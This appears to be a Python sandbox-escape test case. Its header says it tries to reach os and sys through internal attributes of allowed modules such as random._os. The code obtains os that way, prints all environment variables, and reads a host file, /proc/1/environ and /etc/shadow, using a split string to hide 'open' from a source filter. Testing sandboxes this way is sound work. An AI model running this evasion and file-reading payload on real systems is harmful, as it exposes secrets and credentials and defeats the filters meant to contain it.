# Tries: to use os, sys and builtins as they lie in modules that are allowed, by attributes that no
# list names.
# Stopped by: a fresh environment and a minimal root; the source check does not see all of it.
# Bare: yes
import calendar
import contextlib
import dataclasses
import random

names = []
for module, inner in ((random, "_os"), (contextlib, "sys"), (dataclasses, "sys"),
                      (calendar, "sys"), (random, "_random"), (contextlib, "os")):
    for name, value in module.__dict__.items():
        if name == inner:
            names.append(value)
print(len(names), [str(one)[:40] for one in names])
os = names[0]
print(dict(os.environ))
for path in (context["host_file"], "/proc/1/environ", "/etc/shadow"):
    try:
        print(os.read(os.__dict__["op" + "en"](path, 0), 9999))
    except OSError as refusal:
        print(refusal)
